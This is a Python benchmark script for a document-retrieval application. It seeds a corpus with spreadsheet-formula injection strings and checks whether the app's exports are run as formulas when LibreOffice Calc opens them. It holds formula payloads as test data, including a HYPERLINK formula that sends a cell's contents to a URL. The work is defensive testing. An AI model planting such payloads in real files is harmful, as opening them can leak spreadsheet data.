"""Exports of a hostile corpus opened in LibreOffice Calc: how many of their cells it runs as formulas.

    python -m benchmarks.spreadsheets

Documents, titles, publishers, a kind, a question, a draft, a name and a note begin with formulas, at a cell's start and
behind everything that may divide cells. Every form of an answer, a check, a conversation and the notebook is opened as
a page or as a table, under each separator. The control is the same words as a file of their own. Needs `soffice`.
"""

from __future__ import annotations

import shutil
import subprocess
import tempfile
from collections.abc import Iterator, Mapping
from contextlib import closing
from datetime import UTC, datetime
from pathlib import Path

import click

from answer.ask import ask
from answer.check import check
from answer.exports.export import FORMS, export
from answer.records import Answer
from desk import conversations, notebook
from desk.exports import CONVERSATION_FORMS, NOTEBOOK_FORMS
from desk.records import Desk, KeptTurn
from index.building.build import build
from index.encoding.encoder import SentenceEncoder
from index.encoding.models import find_model
from index.library import open_library
from settings import read_settings

QUESTION = "=1+1 What did the harbour council vote on dredging?"
LEAK = '=HYPERLINK("http://127.0.0.1:9/?leak"&A1;"open the minutes")'
SENTENCES = (
    f"{LEAK} is what the harbour council voted on dredging.",
    f"The council voted on dredging on Monday;{LEAK};the mayor agreed.",
    "=1+1 was the first line on dredging that the harbour council printed.",
    "\t=2+3\t=2+4 dredging was tabulated by the council;\t=2+5",
    "@SUM(1+1) dredging votes, -1+1 of them late, were counted by the council.",
    "+1+1 votes on dredging were missing, said the harbour council.",
)
TITLE = "=1+1 minutes of dredging"
KINDS = ("reporting", "official", "=1+1 papers")
FILTERS = {",": "44", ";": "59", "tab": "9"}
"""Separator → what Calc's filter for text calls it."""


def fill(corpus: Path) -> None:
    """Write the hostile documents."""
    for kind in KINDS:
        for number, sentence in enumerate(SENTENCES):
            path = corpus / kind / f"=1+{number}.md"
            path.parent.mkdir(parents=True, exist_ok=True)
            head = f"---\ntitle: '{TITLE}'\npublisher: '=1+2'\nauthor: '@SUM(1+1)'\n---\n\n"
            path.write_text(f"{head}{sentence}\n\nThe mayor agreed to dredging in May, the council said.\n", "utf-8")


def exports(folder: Path) -> Iterator[tuple[str, str]]:
    """Yield the name and the text of every form of everything that is exported."""
    corpus, data, settings, at = folder / "corpus", folder / "data", read_settings(), datetime.now(UTC)
    fill(corpus)
    encoder = SentenceEncoder(find_model(settings.model), settings.cache)
    build(corpus, data, encoder, confirmed=True)
    with closing(open_library(data)) as library:
        answer = ask(library, encoder, QUESTION, k=20)
        for form, how in FORMS.items():
            yield f"answer.{how.ending}", export(answer, form, at=at)
            yield f"check.{how.ending}", export(check(library, encoder, "\n\n".join(SENTENCES)), form, at=at)
    yield from _kept(Desk(data, "somebody"), answer, at)


def _kept(desk: Desk, answer: Answer, at: datetime) -> Iterator[tuple[str, str]]:
    number = conversations.begin(desk, KeptTurn(QUESTION, at, answer))
    conversations.rename(desk, number, TITLE)
    for place, hit in enumerate((hit for lane in answer.lanes for hit in lane.hits), start=1):
        notebook.pin(desk, hit.document, hit.evidence, at=at)
        notebook.write_note(desk, place, LEAK)
    talk, pins = conversations.read(desk, number), notebook.pins(desk)
    endings = {"markdown": "md", "json": "json", "html": "html"}
    for form, ending in endings.items():
        yield f"conversation.{ending}", CONVERSATION_FORMS[form](talk)
        yield f"notebook.{ending}", NOTEBOOK_FORMS[form](pins, at=at)


def filters(name: str) -> Mapping[str, str]:
    """The ways in which Calc opens a file of this name."""
    if name.endswith(".html"):
        return {"page": "HTML (StarCalc)"}
    return {f"table, {said}": f"Text - txt - csv (StarCalc):{code},34,76,1" for said, code in FILTERS.items()}


def opened(path: Path, how: str, folder: Path) -> str:
    """What Calc makes of the file, as flat XML."""
    profile = f"-env:UserInstallation=file://{folder / 'profile'}"
    command = ["soffice", profile, "--headless", f"--infilter={how}", "--convert-to", "fods"]
    subprocess.run([*command, "--outdir", folder / "opened", path], check=True, capture_output=True, timeout=120)  # noqa: S603
    made = folder / "opened" / f"{path.stem}.fods"
    text = made.read_text("utf-8")
    made.unlink()
    return text


@click.command()
def main() -> None:
    """Print the cells and formulas of every export, however it is opened."""
    if not shutil.which("soffice"):
        raise click.ClickException("no soffice: install LibreOffice Calc")
    found = 0
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        control = "\n".join(SENTENCES)
        page = "".join(f"<p>{sentence}</p>" for sentence in SENTENCES)
        made = [("control.csv", control), ("control.html", f"<!doctype html><body>{page}"), *exports(folder)]
        for file, text in made:
            path = folder / file
            path.write_text(text, "utf-8", newline="")
            for said, how in filters(file).items():
                xml = opened(path, how, folder)
                formulas = xml.count("table:formula=")
                found += 0 if file.startswith("control") else formulas
                click.echo(f"{file} as a {said}: {xml.count('<text:p>'):,} cells, {formulas} formulas")
    if found:
        raise click.ClickException(f"{found} cells of exports are formulas")


if __name__ == "__main__":
    main()
